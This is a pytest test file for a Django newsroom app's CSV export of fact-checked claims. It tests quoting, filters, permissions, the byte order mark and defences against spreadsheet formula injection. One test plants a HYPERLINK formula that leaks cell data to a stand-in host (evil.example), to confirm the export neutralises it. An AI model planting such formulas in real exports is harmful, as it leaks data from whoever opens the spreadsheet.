"""The CSV export: columns, quoting, formula safety, BOM, filters, permissions, query count."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Permission
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from claims import selectors
from claims.exports import csv_export
from claims.forms import ClaimFilterForm
from claims.models import Claim, Source, StatusChange
from tests.factories import ArticleFactory, ClaimFactory, UserFactory

pytestmark = pytest.mark.django_db
URL = "/export/claims.csv"


def parse(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def download(client, params: dict | None = None) -> list[list[str]]:
    response = client.get(URL, params or {})
    assert response.status_code == 200
    assert response.streaming
    return parse(b"".join(response.streaming_content))


def by_id(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    header, *body = rows
    return {row[0]: dict(zip(header, row, strict=True)) for row in body}


@pytest.fixture
def chief(client):
    client.force_login(UserFactory(username="dora", role="desk chief"))
    return client


def full_claim() -> Claim:
    """A reviewed claim with every column filled in."""
    rita = UserFactory(username="rita", role="reviewer")
    article = ArticleFactory(
        title="Syria talks: Geneva-2 planned",
        outlet="Reuters",
        url="https://example.org/geneva",
        published_date=datetime.date(2013, 5, 28),
    )
    claim = ClaimFactory(
        article=article,
        text="More than 80,000 people have died since March 2011",
        summary="80,000+ people died since March 2011",
        type=Claim.Type.STATISTIC,
        score=0.9134,
        speaker="Ban Ki-moon",
        speaker_kind="person",
        quantities=[
            {"text": "More than 80,000 people", "value": 80000.0, "low": 80000.0,
             "high": None, "qualifier": "more than", "unit": "people"},
            {"text": "3.4 percent", "value": 3.4, "qualifier": None, "unit": "percent"},
        ],
        times=[{"text": "since March 2011", "value": "2011-03", "relation": "since"}],
        status=Claim.Status.VERIFIED,
        assignee=rita,
        reviewed_by=rita,
        reviewed_at=datetime.datetime(2024, 3, 1, 9, 30, 15, tzinfo=datetime.UTC),
    )  # fmt: skip
    Source.objects.create(claim=claim, url="https://un.org/toll", added_by=rita)
    Source.objects.create(claim=claim, title="UNHCR report, May 2013", added_by=rita)
    Source.objects.create(claim=claim, url="https://other.org/lower", is_counter=True)
    StatusChange.objects.create(
        claim=claim, from_status="unreviewed", to_status="sourced", note="first look"
    )
    StatusChange.objects.create(
        claim=claim, from_status="sourced", to_status="verified", note="UN figure confirmed"
    )
    StatusChange.objects.create(claim=claim, from_status="verified", to_status="verified", note="")
    return claim


def test_it_sends_anonymous_users_to_login(client):
    response = client.get(URL)
    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))


def test_it_refuses_users_without_a_role(client):
    client.force_login(UserFactory(username="nobody"))
    assert client.get(URL).status_code == 403


def test_it_refuses_post(chief):
    assert chief.post(URL).status_code == 405


def test_editors_may_export(client):
    client.force_login(UserFactory(username="ed", role="editor"))
    assert client.get(URL).status_code == 200


def test_it_is_a_streamed_csv_download(chief):
    response = chief.get(URL)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="newsfacts-claims-')
    assert "no-store" in response["Cache-Control"]


def test_the_header_names_every_column(chief):
    assert download(chief) == [csv_export.HEADER]
    assert csv_export.HEADER == [
        "claim_id", "article_title", "outlet", "article_url", "published_date", "claim_text",
        "summary", "type", "score", "speaker", "speaker_kind", "quantities", "quantity_values", "times",
        "status", "rating", "rating_value", "rating_explanation", "assignee", "last_reviewer", "reviewed_at", "sources", "counter_sources", "latest_note", "claim_link",
    ]  # fmt: skip


def test_a_reviewed_claim_fills_every_column(chief):
    claim = full_claim()
    row = by_id(download(chief))[str(claim.pk)]
    assert row == {
        "claim_id": str(claim.pk),
        "article_title": "Syria talks: Geneva-2 planned",
        "outlet": "Reuters",
        "article_url": "https://example.org/geneva",
        "published_date": "2013-05-28",
        "claim_text": "More than 80,000 people have died since March 2011",
        "summary": "80,000+ people died since March 2011",
        "type": "statistic",
        "score": "0.913",
        "speaker": "Ban Ki-moon",
        "speaker_kind": "person",
        "quantities": "more than 80,000 people; 3.4%",
        "quantity_values": "more than 80000 people; 3.4 percent",
        "times": "since 2011-03",
        "status": "verified",
        "rating": "",
        "rating_value": "",
        "rating_explanation": "",
        "assignee": "rita",
        "last_reviewer": "rita",
        "reviewed_at": "2024-03-01 09:30:15",
        "sources": "https://un.org/toll\nUNHCR report, May 2013",
        "counter_sources": "https://other.org/lower",
        "latest_note": "UN figure confirmed",
        "claim_link": (
            f"http://testserver/articles/{claim.article_id}/?claim={claim.pk}#claim-{claim.pk}"
        ),
    }


def test_the_speaker_kind_column_tells_an_institution_from_a_person(chief):
    ministry = ClaimFactory(speaker="the interior ministry", speaker_kind="organisation")
    nobody = ClaimFactory(speaker="", speaker_kind="")
    rows = by_id(download(chief))
    assert rows[str(ministry.pk)]["speaker_kind"] == "organisation"
    assert rows[str(nobody.pk)]["speaker_kind"] == ""


def test_the_link_is_the_claims_page(chief):
    claim = full_claim()
    link = by_id(download(chief))[str(claim.pk)]["claim_link"]
    assert link == f"http://testserver{claim.get_absolute_url()}"


def test_an_unreviewed_claim_leaves_review_columns_empty(chief):
    claim = ClaimFactory(article=ArticleFactory(published_date=None, url=""))
    row = by_id(download(chief))[str(claim.pk)]
    for column in ("article_url", "published_date", "speaker", "quantities", "times",
                   "assignee", "last_reviewer", "reviewed_at", "sources", "counter_sources",
                   "latest_note"):  # fmt: skip
        assert row[column] == "", column
    assert row["status"] == "unreviewed"


def test_ranges_and_unresolved_times_are_readable():
    quantities = [{"text": "hundreds of thousands", "value": None, "low": 200000.0,
                   "high": 900000.0, "qualifier": None, "unit": "people"}]  # fmt: skip
    times = [{"text": "on Monday", "value": None, "relation": "at"}]
    assert csv_export.format_quantity_values(quantities) == "200000 to 900000 people"
    assert csv_export.format_quantities(quantities) == "200,000–900,000 people"
    assert csv_export.format_times(times) == "at on Monday"
    four = [{"text": "4.2bn", "value": 4.2e9, "unit": "USD"}]
    assert csv_export.format_quantity_values(four) == "4200000000 USD"
    assert csv_export.format_quantities(four) == "$4.2 billion"


def test_a_rated_claim_fills_the_rating_columns(chief):
    from claims import services
    from claims.models import VerdictRating

    claim = full_claim()
    services.claim_set_rating(
        claim_id=claim.pk,
        user=claim.reviewed_by,
        rating_id=VerdictRating.objects.get(name="Half true").pk,
        explanation="=Right toll, wrong trend",
        expected_version=claim.version,
    )
    row = by_id(download(chief))[str(claim.pk)]
    assert (row["rating"], row["rating_value"]) == ("Half true", "3")
    assert row["rating_explanation"] == "'=Right toll, wrong trend"  # formula-safe


def test_commas_quotes_and_newlines_survive_rfc_4180_quoting(chief):
    text = 'He said "80,000, at least",\nthen left; café ünïcode — 日本'
    claim = ClaimFactory(text=text, summary="a, b")
    response = chief.get(URL)
    body = b"".join(response.streaming_content)
    assert b'"He said ""80,000, at least"",\nthen left; caf\xc3\xa9' in body
    assert body.count(b"\r\n") == 2  # header and row end with CRLF; the cell keeps its \n
    row = by_id(parse(body))[str(claim.pk)]
    assert row["claim_text"] == text
    assert row["summary"] == "a, b"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "\x00"])
def test_every_formula_prefix_is_neutralised_and_round_trips(chief, prefix):
    if prefix == "\x00" and connection.vendor == "postgresql":
        pytest.skip("PostgreSQL text cannot hold NUL (the unit test below covers it)")
    payload = f'{prefix}HYPERLINK("http://evil.example/?x="&A1,"click")'
    article = ArticleFactory(title=payload, outlet=payload)
    claim = ClaimFactory(article=article, text=payload, summary=payload, speaker=payload)
    Source.objects.create(claim=claim, title=payload)
    Source.objects.create(claim=claim, title=payload, is_counter=True)
    StatusChange.objects.create(
        claim=claim, from_status="unreviewed", to_status="disputed", note=payload
    )
    row = by_id(download(chief))[str(claim.pk)]
    for column in ("article_title", "outlet", "claim_text", "summary", "speaker", "sources",
                   "counter_sources", "latest_note"):  # fmt: skip
        assert row[column] == "'" + payload, column


@pytest.mark.parametrize("prefix", csv_export.FORMULA_PREFIXES)
def test_a_neutralised_cell_round_trips_through_the_csv_module(prefix):
    value = f'{prefix}1+2, "quoted"\r\nnext line'
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_export.safe_cell(value), "after"])
    assert parse(buffer.getvalue().encode()) == [["'" + value, "after"]]


def test_harmless_cells_are_left_alone():
    assert csv_export.safe_cell("80,000 people = a lot") == "80,000 people = a lot"
    assert csv_export.safe_cell("") == ""
    assert csv_export.safe_cell(" =1+1") == " =1+1"
    assert csv_export.safe_cell("-3.4 percent") == "'-3.4 percent"


def test_no_byte_order_mark_unless_asked(chief):
    ClaimFactory(text="Café prices rose 3 percent")
    plain = b"".join(chief.get(URL).streaming_content)
    assert plain.startswith(b"claim_id,")
    for value in ("1", "true"):
        body = b"".join(chief.get(URL, {"bom": value}).streaming_content)
        assert body.startswith(b"\xef\xbb\xbfclaim_id,")
        assert body[3:] == plain  # the rest is the same UTF-8
        assert "Café prices rose 3 percent" in body.decode("utf-8-sig")


FILTER_CASES = [
    {},
    {"status": "verified"},
    {"type": "quote"},
    {"outlet": "reuters"},
    {"speaker": "ban"},
    {"q": "died"},
    {"score_min": "0.5", "score_max": "0.8"},
    {"assignee": "none"},
    {"sort": "score"},
    {"sort": "-date"},
    {"sort": "date", "status": "unreviewed"},
    {"status": "nonsense"},  # ignored, as on the dashboard
    {"date_from": "2000-01-01", "date_to": "2100-01-01"},
]


@pytest.fixture
def desk():
    reuters = ArticleFactory(outlet="Reuters")
    afp = ArticleFactory(outlet="AFP")
    rita = UserFactory(username="rita", role="reviewer")
    ClaimFactory(
        article=reuters,
        text="At least 80,000 people died",
        speaker="Ban Ki-moon",
        score=0.9,
        status="verified",
        assignee=rita,
    )
    ClaimFactory(article=reuters, text="The talks will start in June", type="prediction", score=0.4)
    ClaimFactory(
        article=afp, text="'We will not go', he said", type="quote", speaker="Assad", score=0.6
    )
    ClaimFactory(article=afp, text="Prices rose 3 percent", score=0.6, status="disputed")
    ClaimFactory(article=afp, text="Orphaned claim", is_orphaned=True, score=0.99)
    ClaimFactory(article=afp, text="Dozens died in Homs", score=0.75, assignee=rita)


@pytest.mark.parametrize(
    "params", FILTER_CASES, ids=lambda p: "&".join(f"{k}={v}" for k, v in p.items()) or "none"
)
def test_filters_export_exactly_the_dashboards_claims(chief, desk, params):
    filters = ClaimFilterForm(params).to_filters()
    expected = [
        str(pk) for pk in selectors.claim_list(filters=filters).values_list("id", flat=True)
    ]
    rows = download(chief, params)[1:]
    assert [row[0] for row in rows] == expected


def test_the_assignee_filter_matches_the_dashboard(chief, desk):
    rita = UserFactory(username="rita")
    rows = download(chief, {"assignee": str(rita.pk)})[1:]
    assert {row[csv_export.HEADER.index("assignee")] for row in rows} == {"rita"}
    assert len(rows) == 2


def test_orphaned_claims_are_not_exported(chief, desk):
    texts = [row[5] for row in download(chief)[1:]]
    assert "Orphaned claim" not in texts and len(texts) == 5


def test_chunks_keep_each_claims_sources_and_notes():
    claims = [ClaimFactory(score=1 - i / 100) for i in range(7)]
    for claim in claims:
        Source.objects.create(claim=claim, url=f"https://example.org/{claim.pk}")
        StatusChange.objects.create(
            claim=claim, from_status="unreviewed", to_status="disputed", note=f"note {claim.pk}"
        )
    text = "".join(
        csv_export.csv_chunks(selectors.claims_for_export(), link_base="http://x", chunk_size=3)
    )
    rows = by_id(parse(text.encode()))
    assert len(rows) == 7
    for claim in claims:
        assert rows[str(claim.pk)]["sources"] == f"https://example.org/{claim.pk}"
        assert rows[str(claim.pk)]["latest_note"] == f"note {claim.pk}"


def _make_claims(n: int) -> None:
    for _ in range(n):
        claim = ClaimFactory(reviewed_by=UserFactory(), assignee=UserFactory())
        Source.objects.create(claim=claim, url="https://example.org/a")
        Source.objects.create(claim=claim, url="https://example.org/b", is_counter=True)
        StatusChange.objects.create(
            claim=claim, from_status="unreviewed", to_status="disputed", note="why"
        )


def _export_queries(client) -> int:
    with CaptureQueriesContext(connection) as queries:
        body = b"".join(client.get(URL).streaming_content)
    return len(queries), len(parse(body)) - 1


def test_queries_do_not_grow_with_rows(chief, django_assert_max_num_queries):
    _make_claims(5)
    few, rows = _export_queries(chief)
    assert rows == 5
    _make_claims(45)
    with django_assert_max_num_queries(few):
        body = b"".join(chief.get(URL).streaming_content)
    assert len(parse(body)) - 1 == 50
    # session, user, permissions, then claims + sources + notes: nothing per row
    assert few <= 8


def test_the_command_writes_the_same_rows_as_http(chief, desk, tmp_path):
    out = tmp_path / "claims.csv"
    call_command(
        "export_claims", "-o", str(out), "--status", "verified", "--base-url", "http://testserver"
    )
    via_command = parse(out.read_bytes())
    via_http = download(chief, {"status": "verified"})
    assert via_command == via_http
    assert len(via_command) == 2


def test_the_command_takes_every_dashboard_filter(chief, desk, tmp_path):
    out = tmp_path / "claims.csv"
    call_command(
        "export_claims", "-o", str(out), "--outlet", "AFP", "--score-min", "0.5",
        "--sort", "score", "--base-url", "http://testserver",
    )  # fmt: skip
    assert parse(out.read_bytes()) == download(
        chief, {"outlet": "AFP", "score_min": "0.5", "sort": "score"}
    )


def test_the_command_writes_to_stdout_with_a_bom(desk):
    out = io.StringIO()
    call_command("export_claims", "--bom", "--type", "quote", stdout=out)
    text = out.getvalue()
    assert text.startswith("\ufeffclaim_id,")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert len(rows) == 2 and rows[1][csv_export.HEADER.index("type")] == "quote"
    assert rows[1][-1].startswith("http://127.0.0.1:8000/articles/")


def test_the_command_finds_the_assignee_by_name(desk):
    out = io.StringIO()
    call_command("export_claims", "--assignee", "rita", stdout=out)
    assert len(parse(out.getvalue().encode())) == 3


def test_the_command_refuses_a_bad_filter(desk):
    with pytest.raises(CommandError, match="--status"):
        call_command("export_claims", "--status", "verifed", stdout=io.StringIO())
    with pytest.raises(CommandError, match="no user called"):
        call_command("export_claims", "--assignee", "nobody", stdout=io.StringIO())


def test_the_admin_action_exports_the_selected_claims(client, desk):
    admin = UserFactory(username="boss")
    admin.is_staff = admin.is_superuser = True
    admin.save()
    client.force_login(admin)
    chosen = list(Claim.objects.order_by("id").values_list("id", flat=True)[:2])
    response = client.post(
        reverse("admin:claims_claim_changelist"),
        {"action": "export_csv", "_selected_action": chosen},
    )
    assert response.status_code == 200
    rows = parse(b"".join(response.streaming_content))
    assert rows[0] == csv_export.HEADER
    assert sorted(int(row[0]) for row in rows[1:]) == chosen


def test_the_admin_action_needs_only_view_permission(client, desk):
    viewer = UserFactory(username="viewer")
    viewer.is_staff = True
    viewer.save()
    viewer.user_permissions.add(Permission.objects.get(codename="view_claim"))
    client.force_login(viewer)
    claim = Claim.objects.first()
    response = client.post(
        reverse("admin:claims_claim_changelist"),
        {"action": "export_csv", "_selected_action": [claim.pk]},
    )
    assert response.status_code == 200
    assert parse(b"".join(response.streaming_content))[1][0] == str(claim.pk)


def test_reviewed_at_is_in_the_desks_time_zone(chief, settings):
    settings.TIME_ZONE = "Europe/Paris"
    claim = ClaimFactory(reviewed_at=datetime.datetime(2024, 7, 1, 12, 0, tzinfo=datetime.UTC))
    with timezone.override("Europe/Paris"):
        row = by_id(download(chief))[str(claim.pk)]
    assert row["reviewed_at"] == "2024-07-01 14:00:00"
